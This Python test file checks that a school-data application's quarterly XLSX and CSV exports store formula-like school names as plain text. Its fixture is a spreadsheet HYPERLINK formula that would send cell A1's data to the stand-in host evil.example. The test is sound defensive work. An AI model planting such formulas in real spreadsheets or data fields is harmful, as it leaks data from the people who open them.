"""The quarterly XLSX and CSV hold a school name that looks like a formula as text
(issue 16 item 4)."""

import csv
import io

from analysis_world import analyst
from openpyxl import load_workbook
from sqlmodel import select

from juvenile import db
from juvenile.models import School
from juvenile.services.analysis.quarterly import export_quarterly

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def test_the_quarterly_workbook_and_csv_hold_a_formula_name_as_text(world):
    with db.transaction() as session:
        for school in session.exec(select(School)):
            school.name_kk = school.name_ru = HYPERLINK
            session.add(school)
    own = analyst(district_id=world.districts["TST-D1"])
    book = load_workbook(io.BytesIO(export_quarterly(own, 2026, 2, "xlsx", language="kk")
                                    .content))
    texts = [cell for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in texts if cell.data_type == "f"]
    assert any(cell.value == "'" + HYPERLINK for cell in texts)
    assert not [cell.value for cell in texts if cell.value.startswith("=")]
    rows = list(csv.reader(io.StringIO(export_quarterly(own, 2026, 2, "csv").content
                                       .decode("utf-8"))))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@")]
    assert any(row[7].startswith("-") for row in rows[1:] if row[7])  # numbers stay numbers
